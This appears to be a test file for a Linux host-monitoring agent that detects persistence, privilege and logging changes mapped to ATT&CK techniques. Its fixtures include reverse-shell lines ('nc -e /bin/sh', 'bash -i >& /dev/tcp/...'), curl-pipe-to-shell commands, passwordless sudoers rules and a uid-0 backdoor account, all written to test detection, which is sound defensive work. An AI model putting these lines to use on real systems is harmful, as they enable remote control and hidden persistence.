import { execFileSync } from 'node:child_process'
import { appendFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { parse } from 'yaml'
import { createProbe } from '../../../../agent/host/probe.ts'
import { changesBetween, eventOf } from '../../../../agent/sense/power/compare.ts'
import { isHostileInShell } from '../../../../agent/sense/power/places.ts'
import { Snapshots } from '../../../../agent/sense/power/snapshot.ts'
import { systemTime } from '../../../../agent/system-time.ts'
import { silent } from '../bench-machine.ts'

const nobody = { facts: {}, isByPackages: false, isByOwnCommand: false }
const probe = createProbe({ time: systemTime, log: silent })
const attacks = join(import.meta.dirname, '../../../../../shared/data/attacks/T1053.003.yaml')
let root: string

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'tierline-power-'))
  put('/etc/passwd', 'root:x:0:0::/root:/bin/sh\neve:x:1000:1000::/home/eve:/bin/sh\n')
  put('/etc/group', 'root:x:0:\nsudo:x:27:\nvideo:x:44:\n')
  for (const folder of ['hourly', 'daily', 'weekly', 'monthly', 'd']) mkdirSync(join(root, `etc/cron.${folder}`), { recursive: true })
  mkdirSync(join(root, 'var/spool/cron/crontabs'), { recursive: true })
})

afterEach(() => rmSync(root, { recursive: true }))

function put(path: string, text: string): void {
  mkdirSync(dirname(join(root, path)), { recursive: true })
  writeFileSync(join(root, path), text)
}

/** What is said of what `change` does. */
async function said(change: () => void, doing = nobody) {
  const snapshots = new Snapshots(probe, root)
  const before = await snapshots.take()
  change()
  return changesBetween(before, await snapshots.take()).flatMap((each) => eventOf(each, doing) ?? [])
}

describe.skipIf(process.platform !== 'linux')('a change of power', () => {
  it.each<[string, string, string, string, string]>([
    ['/etc/ld.so.preload', '/lib/x.so', 'security.persistence.dangerous', 'high', 'T1574.006'],
    ['/root/.ssh/authorized_keys', 'ssh-ed25519 AAAA eve', 'security.persistence.dangerous', 'high', 'T1098.004'],
    ['/home/eve/.ssh/authorized_keys', 'ssh-ed25519 AAAA mallory', 'security.persistence.new', 'low', 'T1098.004'],
    ['/home/eve/.config/autostart/x.desktop', 'Exec=/tmp/x', 'security.persistence.dangerous', 'high', 'T1547.013'],
    ['/etc/sudoers.d/eve', 'eve ALL=(ALL) NOPASSWD: ALL', 'security.account.admin-added', 'medium', 'T1548.003'],
    ['/etc/systemd/system/x.service', 'ExecStart=/usr/bin/x', 'security.persistence.new', 'low', 'T1543.002'],
    ['/etc/systemd/system/y.service', 'ExecStart=/tmp/x', 'security.persistence.dangerous', 'high', 'T1543.002'],
    ['/etc/cron.d/x', '* * * * * root /usr/bin/true', 'security.persistence.new', 'low', 'T1053.003'],
    ['/etc/systemd/system/ssh.service.d/x.conf', 'ExecStartPre=/tmp/x', 'security.persistence.dangerous', 'high', 'T1543.002'],
    ['/etc/systemd/system/ssh.service.d/y.conf', 'Nice=3', 'security.persistence.new', 'low', 'T1543.002'],
    ['/var/spool/cron/atjobs/a00001', 'OLDPWD=/home/eve/x; export OLDPWD\n/usr/bin/true', 'security.persistence.new', 'low', 'T1053.002'],
    ['/var/spool/cron/atjobs/a00002', 'curl http://x/y | sh', 'security.persistence.dangerous', 'high', 'T1053.002'],
    ['/etc/update-motd.d/99-x', '#!/bin/sh\n/usr/bin/true', 'security.persistence.new', 'low', 'T1546'],
    ['/root/.bash_logout', 'export A=1', 'security.persistence.new', 'low', 'T1546.004'],
    ['/home/eve/.bash_logout', 'nc -e /bin/sh 192.0.2.1 9 | sh', 'security.persistence.dangerous', 'high', 'T1546.004'],
    ['/etc/ld.so.conf.d/x.conf', '/opt/x', 'security.persistence.new', 'low', 'T1574.006'],
    ['/etc/audit/rules.d/audit.rules', '-D', 'security.defence.changed', 'low', 'T1562.006'],
    ['/etc/rsyslog.conf', '*.* ~', 'security.defence.changed', 'low', 'T1562.006'],
    ['/etc/ssh/sshrc', '/usr/bin/x', 'security.persistence.new', 'low', 'T1546'],
    ['/etc/tmpfiles.d/x.conf', 'f+ /etc/x', 'security.persistence.new', 'low', 'T1546'],
    ['/etc/profile.d/x.sh', 'export A=1', 'security.persistence.new', 'low', 'T1546.004'],
  ])('%s', async (path, text, kind, severity, technique) => {
    expect(await said(() => put(path, text))).toMatchObject([{ kind, severity, about: path, facts: { technique, isNew: true } }])
  })

  it('is found in a folder that was quiet for long, and one that was taken out there is none', async () => {
    const snapshots = new Snapshots(probe, root)
    for (let quiet = 0; quiet < 4; quiet += 1) await snapshots.take()
    put('/etc/sudoers.d/eve', 'eve ALL=(ALL) ALL')
    const came = await snapshots.take()
    rmSync(join(root, 'etc/sudoers.d/eve'))
    expect([came.has('/etc/sudoers.d/eve'), (await snapshots.take()).has('/etc/sudoers.d/eve')]).toEqual([true, false])
  })

  it.each([
    ['/etc/sudoers.d/', 'security.account.admin-added'],
    ['/etc/profile.d/', 'security.persistence.new'],
    ['/home/eve/.config/autostart/', 'security.persistence.new'],
  ])('is seen in %s by a name that is no UTF-8, and shown as a shell would take it', async (folder, kind) => {
    mkdirSync(join(root, folder), { recursive: true })
    const named = (bytes: number[]) => Buffer.concat([Buffer.from(join(root, folder)), Buffer.from(bytes)])
    writeFileSync(named([0x61, 0xfe]), 'one')
    const [event, ...others] = await said(() => writeFileSync(named([0x61, 0xff]), 'eve ALL=(ALL) ALL'))
    expect([event?.kind, event?.about, event?.facts?.path, others]).toEqual([kind, `${folder}a\\xff`, `${folder}a\\xff`, []])
    expect(event?.evidence?.[0]?.text).toBe('eve ALL=(ALL) ALL')
  })

  it('at the end of a list of keys that is longer than any person’s is seen, with what was added', async () => {
    const key = (number: number): string => `ssh-ed25519 AAAA${'0'.repeat(60)} key-${number}\n`
    const many = Array.from({ length: 10_000 }, (_, number) => key(number)).join('')
    put('/home/eve/.ssh/authorized_keys', many)
    const [event] = await said(() => appendFileSync(join(root, 'home/eve/.ssh/authorized_keys'), 'ssh-ed25519 BBBB mallory\n'))
    expect(event).toMatchObject({ kind: 'security.persistence.new', facts: { isNew: false } })
    expect(event?.evidence?.[0]?.text).toContain('ssh-ed25519 BBBB mallory')
  })

  it('costs no memory for files that somebody fills a folder of theirs with, and is seen among them', async () => {
    const snapshots = new Snapshots(probe, root)
    const before = await snapshots.take()
    const textOf = async () => {
      const taken = await snapshots.take()
      return { taken, length: [...taken.values()].reduce((sum, { text }) => sum + text.length, 0) }
    }
    for (let round = 9; round > 0; round -= 1) {
      for (let each = 0; each < 30; each += 1) put(`/home/eve/.config/autostart/${round}-${each}`, 'x\n'.repeat(131_072))
      expect((await textOf()).length).toBeLessThan(3_000_000)
    }
    put('/home/eve/.config/autostart/x.desktop', 'Exec=/tmp/x')
    const { taken } = await textOf()
    const events = changesBetween(before, taken).flatMap((each) => eventOf(each, nobody) ?? [])
    expect(events.filter(({ severity }) => severity === 'high').map(({ about }) => about)).toEqual([
      '/home/eve/.config/autostart/x.desktop',
    ])
  })

  it.each([
    ['a service that has a shell', 'postgres:x:105:110::/var/lib/postgresql:/bin/bash', '/var/lib/postgresql', 1],
    ['a person on another disk', 'kim:x:1005:1005::/data/people/kim/:/bin/zsh', '/data/people/kim', 1],
    ['a person of a domain', 'kim:x:1005:1005::/home/acme.example/kim:/bin/bash', '/home/acme.example/kim', 1],
    ['who can’t sign in', 'www-data:x:33:33::/var/www:/usr/sbin/nologin', '/var/www', 0],
    ['whose home is the whole machine', 'kim:x:1005:1005::/:/bin/bash', '', 0],
  ])('in the home of %s, wherever that is', async (_, line, home, count) => {
    put('/etc/passwd', `root:x:0:0::/root:/bin/sh\n${line}\n`)
    mkdirSync(join(root, home), { recursive: true })
    const events = await said(() => put(`${home}/.ssh/authorized_keys`, 'ssh-ed25519 AAAA mallory'))
    expect(events.map(({ about }) => about)).toEqual(Array(count).fill(`${home}/.ssh/authorized_keys`))
  })

  it('is shown on one line that no terminal obeys, whatever its name holds', async () => {
    const [event] = await said(() => put('/etc/cron.d/a\n\u001b[31mb', '* * * * * root true'))
    expect([event?.about, event?.facts?.path]).toEqual(Array(2).fill('/etc/cron.d/a��[31mb'))
  })

  it('shows the lines before and after, masked and printable', async () => {
    put('/etc/crontab', 'a\nold\n')
    const [event] = await said(() => put('/etc/crontab', 'a\ncurl --password hunter2 \u001b[31m\n'))
    expect(event?.evidence).toMatchObject([{ text: expect.stringContaining('curl') }, { text: 'old' }])
    expect(JSON.stringify(event)).not.toMatch(/hunter2|\\u001b/)
  })

  it('of a person’s own shell is dangerous by what was added, and by nothing that tools write there', async () => {
    put('/home/eve/.bashrc', 'export PATH="/home/eve/.local/bin:$PATH"\n. /tmp/old\n')
    const add = (line: string) => said(() => appendFileSync(join(root, 'home/eve/.bashrc'), `${line}\n`))
    expect(await add('. "/home/eve/.cargo/env"')).toMatchObject([{ kind: 'security.persistence.new', severity: 'low' }])
    for (const line of ['/tmp/x &', 'curl http://x/y | bash', "alias sudo='~/.s'", 'bash -i >& /dev/tcp/1.2.3.4/9 0>&1'])
      expect(await add(line)).toMatchObject([
        { kind: 'security.persistence.dangerous', severity: 'high', facts: { technique: 'T1546.004' } },
      ])
  })

  it('of the users and groups is one when somebody became an administrator, or is new', async () => {
    const added = (path: string, line: string) => said(() => appendFileSync(join(root, path), line))
    expect(await added('etc/passwd', 'bob:x:1001:1001::/home/bob:/bin/sh\n')).toMatchObject([
      { kind: 'security.account.added', severity: 'low', facts: { users: ['bob'], technique: 'T1136.001' } },
    ])
    expect(await added('etc/group', 'games:x:60:\n')).toEqual([])
    expect(await added('etc/passwd', 'butter:x:1002:0::/root:/bin/sh\n')).toMatchObject([{ facts: { administrators: ['butter'] } }])
    expect(await added('etc/passwd', 'toor:x:0:0::/root:/bin/sh\n')).toMatchObject([
      { kind: 'security.account.admin-added', facts: { administrators: ['toor'] } },
    ])
    const joined = await said(() => put('/etc/group', 'root:x:0:\nsudo:x:27:eve\nvideo:x:44:eve\n'))
    expect(joined).toMatchObject([{ kind: 'security.account.admin-added', facts: { administrators: ['sudo:eve'] } }])
  })

  it('by the package manager is only kept, and what is read, touched or taken away is none', async () => {
    const packages = { ...nobody, isByPackages: true }
    expect(await said(() => put('/etc/systemd/system/x.service', 'ExecStart=/usr/bin/x'), packages)).toMatchObject([{ severity: 'info' }])
    const quiet = await said(() => {
      execFileSync('touch', [join(root, 'etc/passwd')])
      rmSync(join(root, 'etc/systemd/system/x.service'))
    })
    expect(quiet).toEqual([])
  })

  it('is not looked for behind links and in pipes; a link itself is one', async () => {
    put('/secret', 'hunter2')
    const events = await said(() => {
      symlinkSync(join(root, 'secret'), join(root, 'etc/cron.d/link'))
      symlinkSync(join(root, 'etc/cron.d'), join(root, 'etc/cron.d/loop'))
      execFileSync('mkfifo', [join(root, 'etc/cron.d/pipe')])
    })
    expect(events.map(({ about }) => about)).toEqual(['/etc/cron.d/link', '/etc/cron.d/loop'])
    expect(JSON.stringify(events)).not.toContain('hunter2')
  })

  it('is a unit that lies in somebody’s own folder and is linked; in a person’s own folder a link is theirs', async () => {
    mkdirSync(join(root, 'etc/systemd/system'), { recursive: true })
    mkdirSync(join(root, 'home/eve/.config/systemd/user'), { recursive: true })
    const events = await said(() => {
      symlinkSync('/home/eve/x.service', join(root, 'etc/systemd/system/x.service'))
      symlinkSync('/usr/lib/systemd/system/ssh.service', join(root, 'etc/systemd/system/sshd.service'))
      symlinkSync('/tmp/x.service', join(root, 'home/eve/.config/systemd/user/x.service'))
    })
    expect(events.map(({ kind, about }) => [kind, about])).toEqual([
      ['security.persistence.new', '/etc/systemd/system/sshd.service'],
      ['security.persistence.dangerous', '/etc/systemd/system/x.service'],
    ])
  })
})

interface Attack {
  name: string
  command: string
}

/** Commands of a real collection that write below /etc and /var, on a tree of their own. */
function attacksHere(): Attack[] {
  if (!existsSync(attacks)) {
    console.log('not run here: attacks from outside, because ../shared/data is not there')
    return []
  }
  const { atomic_tests } = parse(readFileSync(attacks, 'utf8')) as {
    atomic_tests: {
      name: string
      input_arguments?: Record<string, { default: string }>
      executor: { command: string }
      supported_platforms: string[]
    }[]
  }
  return atomic_tests
    .filter(
      ({ executor, supported_platforms }) =>
        supported_platforms.includes('linux') && />\s*\/(?:etc|var\/spool)\/cron/.test(executor.command),
    )
    .map(({ name, executor, input_arguments = {} }) => ({
      name,
      command: executor.command.replace(/#\{(\w+)\}/g, (_, argument: string) => String(input_arguments[argument]?.default ?? '')),
    }))
}

describe.skipIf(process.platform !== 'linux' || !existsSync(attacks))('an attack from outside', () => {
  it.each(attacksHere())('$name', async ({ command }) => {
    const events = await said(() => void execFileSync('bash', ['-c', command.replaceAll(/> *\/(etc|var)\//g, `> ${root}/$1/`)]))
    expect(events.length).toBeGreaterThan(0)
    for (const { kind, facts } of events) {
      expect(kind).toMatch(/^security\.persistence\./)
      expect(facts?.technique).toBe('T1053.003')
    }
  })
})

it('reads a line that was made to be slow at once, and knows what runs what it fetches', () => {
  expect(isHostileInShell(`${'curl '.repeat(2_000)}${'|'.repeat(60_000)}`)).toBe(false)
  expect(isHostileInShell('true; curl -s http://x/y | tee z | sudo /bin/bash -s')).toBe(false)
  expect(isHostileInShell('true; curl -s http://x/y | tee z | /bin/bash -s')).toBe(true)
  expect(isHostileInShell('curl x > y\ncat y | grep sh')).toBe(false)
})
